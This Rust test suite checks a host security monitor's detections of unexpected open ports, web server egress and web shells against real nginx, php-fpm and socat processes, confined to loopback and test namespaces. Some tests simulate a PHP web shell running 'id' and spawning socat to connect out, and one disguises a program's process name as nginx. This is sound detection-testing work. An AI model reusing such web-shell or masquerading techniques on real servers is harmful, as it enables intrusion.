//! Privileged end-to-end scenarios of the three detections (issue 3), with real programs from
//! Debian packages: nginx, php-fpm and socat (`cargo xtask test` installs them).
//!
//! Every scenario writes its own configuration into a scratch directory (never /etc), listens only
//! on 127.0.0.1 / `::1` / 0.0.0.0 of this host or of a network namespace it creates, talks only to
//! loopback, and kills what it started (process-group guards). The daemon runs with `--events` so
//! that every "nothing must be raised" check first waits for the event it is about: a guard that
//! passes because the monitor saw nothing would prove nothing.
//!
//! Run: `cargo build -p monitor && MONITOR_BIN=$PWD/target/debug/monitor \
//!       cargo test -p monitor-tests --test detections -- --test-threads=1`

use std::{
    fs,
    io::{Read, Write},
    net::{SocketAddr, TcpStream},
    os::unix::{fs::PermissionsExt, process::CommandExt},
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    thread,
    time::{Duration, Instant},
};

use monitor::{baseline::scan_listeners, record::ANCESTRY_MAX};
use monitor_tests::{DEFAULT_POLICY, Monitor, QUIET, SCENARIOS, monitor_bin, privileged, record};
use serde_json::{Value, json};

/// How long an expected alert may take (the daemon should need milliseconds).
const ALERT_TIMEOUT: Duration = Duration::from_secs(10);

// ---------------------------------------------------------------------------------------------
// Scenario a: unexpected_listen, live and at start-up.
// ---------------------------------------------------------------------------------------------

#[test]
fn unexpected_listen_live_and_pre_existing() {
    if !privileged("unexpected_listen_live_and_pre_existing") {
        return;
    }
    let scratch = Scratch::new("listen");
    let me = std::process::id();
    let my_exe = path_str(&canonical(&std::env::current_exe().expect("current_exe"))).to_owned();

    // Started BEFORE the monitor: judged by the start-up scan.
    let mut pre_any = socat_listener(
        &scratch,
        "pre-any",
        "TCP4-LISTEN:24101,bind=0.0.0.0,reuseaddr",
    );
    let mut pre_loopback = socat_listener(
        &scratch,
        "pre-lo",
        "TCP4-LISTEN:24103,bind=127.0.0.1,reuseaddr",
    );
    assert_eq!(
        wait_listening(&scratch, &mut pre_any, 24101),
        vec![pre_any.pid()]
    );
    assert_eq!(
        wait_listening(&scratch, &mut pre_loopback, 24103),
        vec![pre_loopback.pid()]
    );

    let mut m = Monitor::start(&["--events"]);

    let a = m.wait_for(
        "pre-existing unexpected_listen on 24101",
        ALERT_TIMEOUT,
        |v| is_alert(v, "unexpected_listen") && v["socket"]["local"]["port"] == 24101,
    );
    assert_listen_alert(&a, &pre_any, "0.0.0.0", 24101, true);
    assert_eq!(a["ancestry"][0]["pid"], me);
    assert_eq!(a["ancestry"][0]["exe"], my_exe);

    // Started AFTER the monitor: judged on the listen event.
    let mut live_any = socat_listener(
        &scratch,
        "live-any",
        "TCP4-LISTEN:24102,bind=0.0.0.0,reuseaddr",
    );
    assert_eq!(
        wait_listening(&scratch, &mut live_any, 24102),
        vec![live_any.pid()]
    );
    let a = m.wait_for("live unexpected_listen on 24102", ALERT_TIMEOUT, |v| {
        is_alert(v, "unexpected_listen") && v["socket"]["local"]["port"] == 24102
    });
    assert_listen_alert(&a, &live_any, "0.0.0.0", 24102, false);
    assert_eq!(a["ancestry"][0]["pid"], me);
    assert_eq!(a["ancestry"][0]["exe"], my_exe);

    // An IPv6 wildcard listener is just as exposed.
    let mut live_v6 = socat_listener(
        &scratch,
        "live-v6",
        "TCP6-LISTEN:24106,bind=[::],ipv6only=1,reuseaddr",
    );
    assert_eq!(
        wait_listening(&scratch, &mut live_v6, 24106),
        vec![live_v6.pid()]
    );
    let a = m.wait_for("live unexpected_listen on [::]:24106", ALERT_TIMEOUT, |v| {
        is_alert(v, "unexpected_listen") && v["socket"]["local"]["port"] == 24106
    });
    assert_listen_alert(&a, &live_v6, "::", 24106, false);

    // Allowed: loopback-only listeners on odd ports, and nginx on port 80 of every address.
    let mut live_loopback = socat_listener(
        &scratch,
        "live-lo",
        "TCP4-LISTEN:24104,bind=127.0.0.1,reuseaddr",
    );
    let mut live_loopback6 = socat_listener(
        &scratch,
        "live-lo6",
        "TCP6-LISTEN:24105,bind=[::1],reuseaddr",
    );
    assert_eq!(
        wait_listening(&scratch, &mut live_loopback, 24104),
        vec![live_loopback.pid()]
    );
    assert_eq!(
        wait_listening(&scratch, &mut live_loopback6, 24105),
        vec![live_loopback6.pid()]
    );
    let nginx = Nginx::start(&scratch, "0.0.0.0:80", "127.0.0.1:9");
    for (port, pid) in [
        (24104, live_loopback.pid()),
        (24105, live_loopback6.pid()),
        (80, nginx.master),
    ] {
        m.wait_for(
            &format!("listen event on port {port}"),
            ALERT_TIMEOUT,
            |v| {
                is_event(v, "listen")
                    && v["socket"]["local"]["port"] == port
                    && v["process"]["pid"] == pid
            },
        );
    }
    m.drain_for(QUIET);
    let listen_alerts: Vec<&Value> = m
        .seen
        .iter()
        .filter(|v| is_alert(v, "unexpected_listen") && ours(v))
        .collect();
    for a in &listen_alerts {
        let port = &a["socket"]["local"]["port"];
        assert!(
            ![24103, 24104, 24105, 80].iter().any(|p| port == p),
            "allowed listener raised an alert: {a}"
        );
    }
    // Exactly one alert per unexpected socket: dedup must not lose any, nothing may repeat.
    for port in [24101, 24102, 24106] {
        let n = listen_alerts
            .iter()
            .filter(|a| a["socket"]["local"]["port"] == port)
            .count();
        assert_eq!(n, 1, "alerts for port {port}: {listen_alerts:#?}");
    }
    let daemon = m.pid();
    m.stop();
    record(daemon, "unexpected_listen");
}

/// The start-up scan reaches listeners in other network namespaces, joined to their owner.
#[test]
fn unexpected_listen_in_other_network_namespace() {
    if !privileged("unexpected_listen_in_other_network_namespace") {
        return;
    }
    let scratch = Scratch::new("netns");
    let ns = NetNs::create(&format!("monitor-e2e-{}", std::process::id()));
    // Bound to every address of the namespace, whose only interface is its own loopback.
    let socat_args = ["-u", "TCP4-LISTEN:24111,bind=0.0.0.0,reuseaddr", "STDOUT"];
    let mut cmd = Command::new("ip");
    cmd.args(["netns", "exec", &ns.name, "socat"])
        .args(socat_args);
    // `ip netns exec` execs the program: the child's pid is socat's.
    let mut listener = Running::spawn(&scratch, "netns-socat", &mut cmd);
    // And one on the namespace's loopback only: found too, but allowed.
    let mut loopback = Running::spawn(
        &scratch,
        "netns-socat-lo",
        Command::new("ip")
            .args(["netns", "exec", &ns.name, "socat", "-u"])
            .args(["TCP4-LISTEN:24112,bind=127.0.0.1,reuseaddr", "STDOUT"]),
    );

    let host_ns = fs::read_link("/proc/self/ns/net").expect("own netns");
    let found = wait_for_scan(&scratch, &mut listener, |l| l.local.port() == 24111);
    assert_eq!(
        found.local,
        "0.0.0.0:24111".parse::<SocketAddr>().expect("addr")
    );
    assert!(!found.family_v6);
    assert_eq!(found.owners, vec![listener.pid()]);
    let socat_ns = fs::read_link(format!("/proc/{}/ns/net", listener.pid())).expect("socat netns");
    assert_ne!(socat_ns, host_ns, "socat must run in the created namespace");
    assert_eq!(
        socat_ns.to_str(),
        Some(format!("net:[{}]", found.netns).as_str())
    );
    let found_lo = wait_for_scan(&scratch, &mut loopback, |l| l.local.port() == 24112);
    assert_eq!(
        found_lo.local,
        "127.0.0.1:24112".parse::<SocketAddr>().expect("addr")
    );
    assert_eq!(found_lo.owners, vec![loopback.pid()]);
    assert_eq!(found_lo.netns, found.netns);

    let mut m = Monitor::start(&["--events"]);
    let a = m.wait_for(
        "pre-existing unexpected_listen in the namespace",
        ALERT_TIMEOUT,
        |v| is_alert(v, "unexpected_listen") && v["socket"]["local"]["port"] == 24111,
    );
    assert_alert_shape(&a);
    assert_eq!(a["severity"], "HIGH");
    assert_eq!(a["title"], "Unexpected Port Opened: 24111");
    assert_eq!(a["pre_existing"], true);
    assert_eq!(a["process"]["pid"], listener.pid());
    assert_eq!(a["process"]["exe"], exe_of("socat"));
    assert_eq!(
        a["process"]["argv"],
        json!(["socat", socat_args[0], socat_args[1], socat_args[2]])
    );
    assert_eq!(a["ancestry"][0]["pid"], std::process::id());
    // The loopback listener is reported as a pre-existing listen event, without an alert.
    m.wait_for(
        "pre-existing listen event on 127.0.0.1:24112",
        ALERT_TIMEOUT,
        |v| {
            is_event(v, "listen")
                && v["pre_existing"] == true
                && v["process"]["pid"] == loopback.pid()
        },
    );
    m.drain_for(QUIET);
    let bad: Vec<&Value> = m
        .seen
        .iter()
        .filter(|v| is_alert(v, "unexpected_listen") && v["socket"]["local"]["port"] == 24112)
        .collect();
    assert!(bad.is_empty(), "loopback listener raised {bad:#?}");
    let daemon = m.pid();
    m.stop();
    record(daemon, "unexpected_listen_netns");
}

// ---------------------------------------------------------------------------------------------
// Scenario a, UDP: open UDP ports, live and at start-up; clients and DNS lookups raise nothing.
// ---------------------------------------------------------------------------------------------

/// `python3 -c UDP_LISTENER <ip> <port>`: a UDP socket bound by bind(2), waiting for a datagram.
const UDP_LISTENER: &str = "import socket, sys\n\
    s = socket.socket(socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET, socket.SOCK_DGRAM)\n\
    s.bind((sys.argv[1], int(sys.argv[2])))\n\
    print('bound', flush=True)\n\
    s.recv(1)\n";
/// `python3 -c UDP_CLIENT <port> <connect|sendto>`: a client of 127.0.0.1:<port> on an unbound
/// socket (the kernel autobinds an ephemeral port), connected or sending with sendto; prints its
/// port and stays.
const UDP_CLIENT: &str = "import socket, sys, time\n\
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
    dst = ('127.0.0.1', int(sys.argv[1]))\n\
    s.connect(dst) if sys.argv[2] == 'connect' else s.sendto(b'x', dst)\n\
    print(s.getsockname()[1], flush=True)\n\
    time.sleep(60)\n";

fn python_udp(scratch: &Scratch, what: &str, script: &str, args: &[&str]) -> Running {
    Running::spawn(
        scratch,
        what,
        Command::new("/usr/bin/python3")
            .arg("-c")
            .arg(script)
            .args(args),
    )
}

/// The first line `program` printed (its log), once it has.
fn first_line(scratch: &Scratch, program: &mut Running) -> String {
    poll(&format!("{} to print", program.what), || {
        program.assert_alive(scratch);
        let log = fs::read_to_string(scratch.path(&format!("{}.log", program.what))).ok()?;
        log.lines().next().map(str::to_owned)
    })
}

fn assert_udp_listen_alert(
    a: &Value,
    owner: &Running,
    exe: &str,
    (ip, port): (&str, u16),
    pre_existing: bool,
) {
    assert_alert_shape(a);
    assert_eq!(a["severity"], "HIGH");
    assert_eq!(a["title"], format!("Unexpected Port Opened: {port}/udp"));
    assert_eq!(a["dedup"], format!("unexpected_listen:{exe}:{port}/udp"));
    assert_eq!(a["event"], "listen");
    assert_eq!(a["pre_existing"], pre_existing);
    assert_eq!(a["process"]["pid"], owner.pid());
    assert_eq!(a["process"]["exe"], exe);
    assert_eq!(a["process"]["argv"], json!(owner.argv));
    assert_eq!(a["ancestry"][0]["pid"], std::process::id());
    let family = if ip.contains(':') { "ipv6" } else { "ipv4" };
    assert_eq!(
        a["socket"],
        json!({"protocol": "udp", "family": family, "local": {"ip": ip, "port": port}, "remote": null})
    );
    assert!(
        a.get("community_id").is_none(),
        "a listener has no flow: {a}"
    );
}

#[test]
fn unexpected_udp_ports_live_and_pre_existing() {
    if !privileged("unexpected_udp_ports_live_and_pre_existing") {
        return;
    }
    let scratch = Scratch::new("udp");
    let socat = exe_of("socat");
    let python = path_str(&canonical(Path::new("/usr/bin/python3"))).to_owned();

    // Before the monitor: an open UDP port, and a client connected to it (its autobound port
    // takes datagrams from that peer only: not an open port).
    let mut pre = socat_listener(
        &scratch,
        "pre-udp",
        "UDP4-RECV:24141,bind=0.0.0.0,reuseaddr",
    );
    assert_eq!(wait_listening(&scratch, &mut pre, 24141), vec![pre.pid()]);
    let mut pre_client = python_udp(&scratch, "pre-client", UDP_CLIENT, &["24141", "connect"]);
    let pre_client_port: u16 = first_line(&scratch, &mut pre_client)
        .parse()
        .expect("the client's port");

    let mut m = Monitor::start(&["--events"]);
    let a = m.wait_for("pre-existing UDP port 24141", ALERT_TIMEOUT, |v| {
        is_alert(v, "unexpected_listen") && v["socket"]["local"]["port"] == 24141
    });
    assert_udp_listen_alert(&a, &pre, &socat, ("0.0.0.0", 24141), true);

    // Live: python3 and socat bind odd ports of every IPv4 and IPv6 address.
    let live = python_udp(&scratch, "live-py", UDP_LISTENER, &["0.0.0.0", "24142"]);
    let a = m.wait_for("live UDP port 24142", ALERT_TIMEOUT, |v| {
        is_alert(v, "unexpected_listen") && v["socket"]["local"]["port"] == 24142
    });
    assert_udp_listen_alert(&a, &live, &python, ("0.0.0.0", 24142), false);
    let live6 = socat_listener(
        &scratch,
        "live-udp6",
        "UDP6-RECV:24143,bind=[::],ipv6only=1",
    );
    let a = m.wait_for("live UDP port [::]:24143", ALERT_TIMEOUT, |v| {
        is_alert(v, "unexpected_listen") && v["socket"]["local"]["port"] == 24143
    });
    assert_udp_listen_alert(&a, &live6, &socat, ("::", 24143), false);

    // Allowed: a UDP port on loopback only (seen with --events, never an alert).
    let loopback = python_udp(&scratch, "live-lo", UDP_LISTENER, &["127.0.0.1", "24144"]);
    let ev = m.wait_for("the loopback UDP bind", ALERT_TIMEOUT, |v| {
        is_event(v, "listen") && v["process"]["pid"] == loopback.pid()
    });
    assert_eq!(
        ev["socket"],
        json!({"protocol": "udp", "family": "ipv4",
               "local": {"ip": "127.0.0.1", "port": 24144}, "remote": null})
    );
    // A client sending with sendto from an unbound socket: its UDP destination is seen (with
    // --events), its autobound port never is a listen.
    let mut client = python_udp(&scratch, "live-client", UDP_CLIENT, &["24142", "sendto"]);
    let client_port: u16 = first_line(&scratch, &mut client)
        .parse()
        .expect("the client's port");
    m.wait_for("the client's UDP send", ALERT_TIMEOUT, |v| {
        is_event(v, "connect")
            && v["process"]["pid"] == client.pid()
            && v["socket"]["remote"]["port"] == 24142
    });

    m.drain_for(QUIET);
    let listens_of = |pid: u32| {
        m.seen
            .iter()
            .filter(|v| {
                v["type"] != "status" && v["process"]["pid"] == pid && v["event"] == "listen"
            })
            .count()
    };
    assert_eq!(listens_of(client.pid()), 0, "autobound port {client_port}");
    assert_eq!(
        listens_of(pre_client.pid()),
        0,
        "connected client's port {pre_client_port}"
    );
    let alerts: Vec<&Value> = m
        .seen
        .iter()
        .filter(|v| is_alert(v, "unexpected_listen") && ours(v))
        .collect();
    for port in [24141, 24142, 24143] {
        let n = alerts
            .iter()
            .filter(|a| a["socket"]["local"]["port"] == port)
            .count();
        assert_eq!(n, 1, "alerts for {port}/udp: {alerts:#?}");
    }
    assert_eq!(
        alerts.len(),
        3,
        "only the three open ports alert: {alerts:#?}"
    );
    let daemon = m.pid();
    m.stop();
    record(daemon, "unexpected_listen_udp");
}

/// The `events` counts of a status record.
fn counts(status: &Value) -> (u64, u64) {
    let n = |k: &str| {
        status["events"][k]
            .as_u64()
            .unwrap_or_else(|| panic!("events.{k} in {status}"))
    };
    (n("listen"), n("connect"))
}

/// Without `--events`, a busy DNS client (glibc's resolver through `getent hosts`, and `dig`)
/// and UDP binds on loopback reach nothing: no alert, and no record leaves the kernel (the status
/// records' listen and connect counts do not move). The lookups go to a DNS server on 127.0.0.1
/// of a network namespace the test creates, whose `/etc/resolv.conf` is bind-mounted over
/// inside `ip netns exec`'s own mount namespace (the host's is untouched).
#[test]
fn dns_lookups_and_loopback_udp_binds_reach_nothing() {
    if !privileged("dns_lookups_and_loopback_udp_binds_reach_nothing") {
        return;
    }
    let scratch = Scratch::new("dns");
    let ns = NetNs::create(&format!("mon-dns-{}", std::process::id()));
    let resolv = scratch.write(
        "resolv.conf",
        "nameserver 127.0.0.1\noptions timeout:2 attempts:1\n",
    );
    let mut m = Monitor::start(&["--status-interval", "1"]);
    // The second status interval: what start-up sent is counted by then.
    let start = m.seen.len();
    next_running(&mut m, start);
    let mark = m.seen.len();
    let before = next_running(&mut m, mark);

    // The DNS server binds 127.0.0.1:53 of the namespace, a program 127.0.0.1:24145 of the host.
    let mut server = Running::spawn(
        &scratch,
        "dns-server",
        Command::new("ip")
            .args(["netns", "exec", &ns.name, "/usr/bin/python3"])
            .arg(Path::new(SCENARIOS).join("dns_responder.py")),
    );
    assert_eq!(first_line(&scratch, &mut server), "ready");
    let mut lo = python_udp(&scratch, "lo-udp", UDP_LISTENER, &["127.0.0.1", "24145"]);
    assert_eq!(first_line(&scratch, &mut lo), "bound");
    let lookups = 20;
    let script = format!(
        "mount --bind {} /etc/resolv.conf && for i in $(seq {lookups}); do \
         getent hosts lookup-$i.monitor.test && dig +short +tries=1 +time=2 dig-$i.monitor.test; \
         done",
        path_str(&resolv)
    );
    let out = Command::new("ip")
        .args(["netns", "exec", &ns.name, "sh", "-c", &script])
        .output()
        .expect("run the lookups");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "lookups failed: {text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        text.matches("127.0.0.7").count(),
        2 * lookups,
        "every lookup was answered by the test's DNS server:\n{text}"
    );
    // Two status intervals after the last lookup: anything sent during them is counted.
    let mark = m.seen.len();
    next_running(&mut m, mark);
    let mark = m.seen.len();
    let after = next_running(&mut m, mark);
    assert_eq!(
        counts(&after),
        counts(&before),
        "records left the kernel during the lookups and loopback binds:\nbefore {before}\nafter {after}"
    );
    assert_no_alert(
        &m.seen,
        "unexpected_listen",
        "for DNS lookups or loopback UDP binds",
    );
    assert!(
        !m.seen.iter().any(|v| v["type"] == "event"),
        "no event records without --events"
    );

    // The same counts see an open port at once: they are not blind.
    let open = python_udp(&scratch, "open-udp", UDP_LISTENER, &["0.0.0.0", "24146"]);
    let a = m.wait_for("UDP port 24146", ALERT_TIMEOUT, |v| {
        is_alert(v, "unexpected_listen") && v["socket"]["local"]["port"] == 24146
    });
    assert_eq!(a["process"]["pid"], open.pid());
    let stopped = m.stop();
    assert!(counts(&stopped).0 > counts(&after).0, "{stopped}");
}

/// The first `running` status record at or after index `from` of what the daemon printed.
fn next_running(m: &mut Monitor, from: usize) -> Value {
    let deadline = Instant::now() + ALERT_TIMEOUT;
    loop {
        if let Some(v) = m.seen[from..]
            .iter()
            .find(|v| v["type"] == "status" && v["status"] == "running")
        {
            return v.clone();
        }
        assert!(
            Instant::now() < deadline,
            "no running status record within {ALERT_TIMEOUT:?}"
        );
        m.drain_for(Duration::from_millis(100));
    }
}

// ---------------------------------------------------------------------------------------------
// Scenario b: nginx proxy_pass egress.
// ---------------------------------------------------------------------------------------------

#[test]
fn webserver_egress_from_nginx_proxy() {
    if !privileged("webserver_egress_from_nginx_proxy") {
        return;
    }
    let scratch = Scratch::new("proxy");
    let policy = egress_test_policy(&scratch);
    let reply = scratch.write(
        "reply.http",
        "HTTP/1.0 200 OK\r\nContent-Length: 9\r\n\r\nupstream\n",
    );
    let reply_addr = format!("OPEN:{}", reply.display());
    // -U: send the canned reply to whoever connects (nginx), ignore what it sends.
    let mut upstream_odd = Running::spawn(
        &scratch,
        "upstream-odd",
        Command::new("socat").args([
            "-U",
            "TCP4-LISTEN:24121,bind=127.0.0.1,reuseaddr,fork",
            &reply_addr,
        ]),
    );
    let mut upstream_allowed = Running::spawn(
        &scratch,
        "upstream-8080",
        Command::new("socat").args([
            "-U",
            "TCP4-LISTEN:8080,bind=127.0.0.1,reuseaddr,fork",
            &reply_addr,
        ]),
    );
    assert_eq!(
        wait_listening(&scratch, &mut upstream_odd, 24121),
        vec![upstream_odd.pid()]
    );
    assert_eq!(
        wait_listening(&scratch, &mut upstream_allowed, 8080),
        vec![upstream_allowed.pid()]
    );

    let mut m = Monitor::start(&["--events", "--policy", path_str(&policy)]);
    let nginx = Nginx::start(&scratch, "127.0.0.1:24120", "127.0.0.1:24121");

    // An allowed egress port: the connect is seen, nothing is raised.
    let body = http_get(24120, "/allowed/x");
    assert!(body.ends_with("upstream\n"), "proxy to 8080 failed: {body}");
    m.wait_for("nginx connect to 127.0.0.1:8080", ALERT_TIMEOUT, |v| {
        is_event(v, "connect")
            && v["process"]["pid"] == nginx.worker
            && v["socket"]["remote"]["port"] == 8080
    });
    m.drain_for(QUIET);
    assert_no_alert(
        &m.seen,
        "webserver_egress",
        "after the proxy to the allowed port 8080",
    );

    // An odd port on an address the test policy does not exclude.
    let body = http_get(24120, "/proxy/x");
    assert!(
        body.ends_with("upstream\n"),
        "proxy to 24121 failed: {body}"
    );
    let a = m.wait_for(
        "webserver_egress from the nginx worker",
        ALERT_TIMEOUT,
        |v| is_alert(v, "webserver_egress") && v["socket"]["remote"]["port"] == 24121,
    );
    assert_alert_shape(&a);
    assert_eq!(a["severity"], "MEDIUM");
    assert_eq!(a["pre_existing"], false);
    assert_eq!(a["process"]["pid"], nginx.worker);
    assert_eq!(a["process"]["ppid"], nginx.master);
    assert_eq!(a["process"]["exe"], exe_of("nginx"));
    assert_eq!(a["process"]["uid"], www_data_uid());
    assert_eq!(a["socket"]["protocol"], "tcp");
    assert_eq!(a["socket"]["family"], "ipv4");
    assert_eq!(a["socket"]["local"]["ip"], "127.0.0.1");
    assert_eq!(
        a["socket"]["remote"],
        json!({"ip": "127.0.0.1", "port": 24121})
    );
    // The flow's Community ID, to find it in Zeek's conn.log (assert_alert_shape checks its
    // value): the whole 5-tuple is known, the source port included.
    assert!(
        a["community_id"]
            .as_str()
            .is_some_and(|id| id.starts_with("1:") && id.len() == 30),
        "{a}"
    );
    assert_ne!(a["socket"]["local"]["port"], 0, "{a}");
    let nginx_exe = exe_of("nginx");
    assert_eq!(a["event"], "connect");
    assert_eq!(
        a["title"],
        format!("Web server egress: {nginx_exe} -> 127.0.0.1:24121")
    );
    assert_eq!(
        a["dedup"],
        format!("webserver_egress:{nginx_exe}:{nginx_exe}:127.0.0.1:24121")
    );
    // The worker was forked (not exec'd) by the master and set its own title, which the table
    // reads once from /proc; the master keeps the argv it was exec'd with.
    assert_eq!(a["process"]["argv"], json!(["nginx: worker process"]));
    assert_eq!(ancestry_pids(&a)[..2], [nginx.master, std::process::id()]);
    assert_eq!(a["ancestry"][0]["exe"], nginx_exe);
    assert_eq!(a["ancestry"][0]["argv"], json!(nginx.argv));

    let quiet = m.drain_for(QUIET);
    let n = m
        .seen
        .iter()
        .filter(|v| is_alert(v, "webserver_egress") && ours(v))
        .count();
    assert_eq!(
        n, 1,
        "exactly one egress alert expected; after it: {quiet:#?}"
    );
    let daemon = m.pid();
    m.stop();
    record(daemon, "webserver_egress_nginx");
}

// ---------------------------------------------------------------------------------------------
// Scenario c: nginx + php-fpm web shells.
// ---------------------------------------------------------------------------------------------

#[test]
fn webserver_shell_and_grandchild_egress_from_php_fpm() {
    if !privileged("webserver_shell_and_grandchild_egress_from_php_fpm") {
        return;
    }
    let scratch = Scratch::new("php");
    let policy = egress_test_policy(&scratch);
    let mut target = socat_listener(
        &scratch,
        "egress-target",
        "TCP4-LISTEN:24131,bind=127.0.0.1,reuseaddr,fork",
    );
    assert_eq!(
        wait_listening(&scratch, &mut target, 24131),
        vec![target.pid()]
    );

    let mut m = Monitor::start(&["--events", "--policy", path_str(&policy)]);
    let fpm = PhpFpm::start(&scratch);
    let nginx = Nginx::start(&scratch, "127.0.0.1:24130", "127.0.0.1:9");

    let body = http_get(24130, "/shell.php");
    assert!(
        body.contains("uid=33(www-data)"),
        "shell.php did not run id: {body}"
    );
    let a = m.wait_for("webserver_shell from php-fpm", ALERT_TIMEOUT, |v| {
        is_alert(v, "webserver_shell") && ours(v)
    });
    assert_shell_alert(&a, &fpm, "id");
    assert_eq!(a["ancestry"][2]["pid"], std::process::id());
    // The worker was forked after the monitor started, and renamed itself: the table re-reads
    // a forked child's title once instead of keeping the master's argv.
    assert_eq!(a["ancestry"][0]["argv"], json!(["php-fpm: pool www"]));

    // The web shell's command connects out: socat is a grandchild of the php-fpm worker.
    let body = http_get(24130, "/egress.php?port=24131");
    assert!(body.contains("done"), "egress.php failed: {body}");
    let a = m.wait_for(
        "webserver_egress from a grandchild of php-fpm",
        ALERT_TIMEOUT,
        |v| is_alert(v, "webserver_egress") && v["socket"]["remote"]["port"] == 24131,
    );
    assert_alert_shape(&a);
    assert_eq!(a["severity"], "MEDIUM");
    assert_eq!(a["pre_existing"], false);
    assert_eq!(a["process"]["exe"], exe_of("socat"));
    assert_eq!(
        a["process"]["argv"],
        json!([
            "socat",
            "-u",
            "OPEN:/dev/null",
            "TCP4:127.0.0.1:24131,connect-timeout=2"
        ])
    );
    assert_eq!(a["process"]["uid"], www_data_uid());
    assert_eq!(
        a["socket"]["remote"],
        json!({"ip": "127.0.0.1", "port": 24131})
    );
    let pids = ancestry_pids(&a);
    assert_eq!(
        a["process"]["ppid"], pids[0],
        "ancestry starts at the parent"
    );
    assert_eq!(a["ancestry"][0]["exe"], exe_of("sh"));
    let cmd = "socat -u OPEN:/dev/null TCP4:127.0.0.1:24131,connect-timeout=2; echo done";
    assert_sh_c_argv(&a["ancestry"][0]["argv"], cmd);
    assert_eq!(pids[1..4], [fpm.worker, fpm.master, std::process::id()]);
    assert_eq!(a["ancestry"][1]["exe"], fpm.exe);
    assert_eq!(a["ancestry"][1]["argv"], json!(["php-fpm: pool www"]));
    assert_eq!(a["ancestry"][2]["exe"], fpm.exe);
    let socat = exe_of("socat");
    let fpm_exe = &fpm.exe;
    assert_eq!(a["event"], "connect");
    assert_eq!(
        a["title"],
        format!(
            "Web server egress: {socat} -> 127.0.0.1:24131 (descendant of {})",
            fpm.comm()
        )
    );
    assert_eq!(
        a["dedup"],
        format!("webserver_egress:{fpm_exe}:{socat}:127.0.0.1:24131")
    );

    // nginx itself only talks to php-fpm over a unix socket: it raised nothing.
    m.drain_for(QUIET);
    for v in m.seen.iter().filter(|v| v["type"] == "alert") {
        assert_ne!(v["process"]["pid"], nginx.worker, "nginx worker raised {v}");
    }
    let daemon = m.pid();
    m.stop();
    record(daemon, "webserver_shell_php");
}

/// nginx and php-fpm started BEFORE the monitor: their lineage comes from the /proc seed.
#[test]
fn webserver_shell_from_php_fpm_started_before_monitor() {
    if !privileged("webserver_shell_from_php_fpm_started_before_monitor") {
        return;
    }
    let scratch = Scratch::new("php-pre");
    let fpm = PhpFpm::start(&scratch);
    let _nginx = Nginx::start(&scratch, "127.0.0.1:24140", "127.0.0.1:9");

    let mut m = Monitor::start(&["--events"]);
    let body = http_get(24140, "/shell.php");
    assert!(
        body.contains("uid=33(www-data)"),
        "shell.php did not run id: {body}"
    );
    let a = m.wait_for(
        "webserver_shell from a pre-existing php-fpm",
        ALERT_TIMEOUT,
        |v| is_alert(v, "webserver_shell") && ours(v),
    );
    assert_shell_alert(&a, &fpm, "id");
    assert_eq!(a["ancestry"][2]["pid"], std::process::id());
    let daemon = m.pid();
    m.stop();
    record(daemon, "webserver_shell_php_pre_existing");
    // Seeded from /proc, where php-fpm has already rewritten its process title (padding the
    // old argument area with NULs, which are not arguments).
    assert_eq!(a["ancestry"][0]["argv"], json!(["php-fpm: pool www"]));
    assert_eq!(
        a["ancestry"][1]["argv"],
        json!([format!(
            "php-fpm: master process ({})",
            scratch.path("php-fpm.conf").display()
        )])
    );
}

// ---------------------------------------------------------------------------------------------
// Scenario d: guards.
// ---------------------------------------------------------------------------------------------

#[test]
fn guards_login_shell_and_renamed_comm() {
    if !privileged("guards_login_shell_and_renamed_comm") {
        return;
    }
    let scratch = Scratch::new("guards");
    // Under the egress test policy a connect to an odd loopback port WOULD count, if it came from
    // a web server: the renamed program's connect tests that comm is not trusted.
    let policy = egress_test_policy(&scratch);
    let mut target = socat_listener(
        &scratch,
        "guard-target",
        "TCP4-LISTEN:24150,bind=127.0.0.1,reuseaddr,fork",
    );
    assert_eq!(
        wait_listening(&scratch, &mut target, 24150),
        vec![target.pid()]
    );
    let rename_comm = build_c_program(&scratch, "rename_comm");

    let mut m = Monitor::start(&["--events", "--policy", path_str(&policy)]);
    let sh = exe_of("sh");

    // A shell started from a login shell is administration, not a web shell. HOME points at the
    // scratch dir so that only the system profile runs, not this machine's dot files; the
    // trailing `true` keeps bash from exec'ing sh in its own place.
    let status = Command::new("bash")
        .args(["-l", "-c", "sh -c true; true"])
        .env("HOME", &scratch.0)
        .status()
        .expect("run bash -l");
    assert!(status.success());
    m.wait_for("exec of sh under bash -l", ALERT_TIMEOUT, |v| {
        is_event(v, "exec")
            && v["process"]["exe"] == sh
            && v["process"]["argv"] == json!(["sh", "-c", "true"])
            && v["ancestry"][0]["argv"][0] == "bash"
    });

    // A program that calls itself "nginx", connects out and spawns a shell.
    let child = Command::new(&rename_comm)
        .arg("24150")
        .spawn()
        .expect("run rename_comm");
    let rc_pid = child.id();
    let out = child.wait_with_output().expect("wait rename_comm");
    assert!(out.status.success(), "rename_comm failed: {out:?}");
    let connect = m.wait_for("connect from the renamed program", ALERT_TIMEOUT, |v| {
        is_event(v, "connect")
            && v["process"]["pid"] == rc_pid
            && v["socket"]["remote"]["port"] == 24150
    });
    assert_eq!(
        connect["process"]["comm"], "nginx",
        "the program must really have renamed itself"
    );
    assert_eq!(
        connect["process"]["exe"],
        path_str(&canonical(&rename_comm))
    );
    let exec = m.wait_for("exec of sh under the renamed program", ALERT_TIMEOUT, |v| {
        is_event(v, "exec") && v["process"]["exe"] == sh && v["process"]["ppid"] == rc_pid
    });
    assert_eq!(exec["process"]["argv"], json!(["sh", "-c", "true"]));

    m.drain_for(QUIET);
    assert_no_alert(&m.seen, "webserver_shell", "for shells outside web servers");
    assert_no_alert(
        &m.seen,
        "webserver_egress",
        "for a program merely named nginx",
    );
    let daemon = m.pid();
    m.stop();
    record(daemon, "guards");
}

// ---------------------------------------------------------------------------------------------
// Assertions on alert records.
// ---------------------------------------------------------------------------------------------

fn is_alert(v: &Value, rule: &str) -> bool {
    v["type"] == "alert" && v["rule"] == rule
}

fn is_event(v: &Value, kind: &str) -> bool {
    v["type"] == "event" && v["event"] == kind
}

/// Is the record about this test process or one of its descendants? The daemon watches the whole
/// machine, where other tests may run web servers at the same time.
fn ours(v: &Value) -> bool {
    let me = std::process::id();
    v["process"]["pid"] == me
        || v["ancestry"]
            .as_array()
            .is_some_and(|a| a.iter().any(|e| e["pid"] == me))
}

